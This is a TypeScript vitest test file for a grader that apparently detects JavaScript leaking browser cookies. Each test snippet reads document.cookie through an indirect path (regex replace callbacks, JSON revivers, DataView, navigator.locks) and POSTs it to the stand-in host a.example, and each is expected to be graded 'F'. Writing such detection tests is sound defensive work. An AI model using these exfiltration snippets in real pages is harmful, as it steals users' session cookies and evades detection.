import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

const SEND = "const send = (x) => fetch('https://a.example/', { method: 'POST', body: x });";
const gradeOf = (content: string): Promise<string> => graded({ content: `${SEND} ${content}` });

/* Functions that the platform runs: what they are told, and what becomes of their answer; and views of bytes. */
it.each([
  ['const l = []; document.cookie.replace(/(\\w+)=(\\w+)/g, (all, name, value) => l.push(value)); send(l.join());'],
  ["document.cookie.replaceAll(/./g, (one) => { send(one); return ''; });"],
  [
    'const l = []; JSON.parse(JSON.stringify({ a: document.cookie }), (k, v) => { l.push(v); return v; }); send(l.join());',
  ],
  ["send(JSON.stringify({}, (k, v) => (k === '' ? { c: document.cookie } : v)));"],
  ['Promise.try(() => document.cookie).then((x) => send(x));'],
  ['const b = new TextEncoder().encode(document.cookie); send(new DataView(b.buffer));'],
  ["navigator.locks.request('a', async () => document.cookie).then((x) => send(x));"],
])('%s', async (content) => {
  expect(await gradeOf(content)).toBe('F');
});

it('takes nothing of a text that is only searched', async () => {
  expect(await gradeOf("send('a'.replace(document.cookie, (x) => x));")).not.toBe('F');
});

it('takes nothing of a text of which a function is told the signs that it escapes', async () => {
  const found = (pattern: string): Promise<string> =>
    gradeOf(`const l = []; document.cookie.replace(${pattern}, (c) => l.push(c)); send(l.join());`);
  expect(await found('/[&<>"\'\\/]/g')).not.toBe('F');
  expect(await found('/[^&<>]/g')).toBe('F');
  expect(await found('/[&<>\\w]/g')).toBe('F');
});
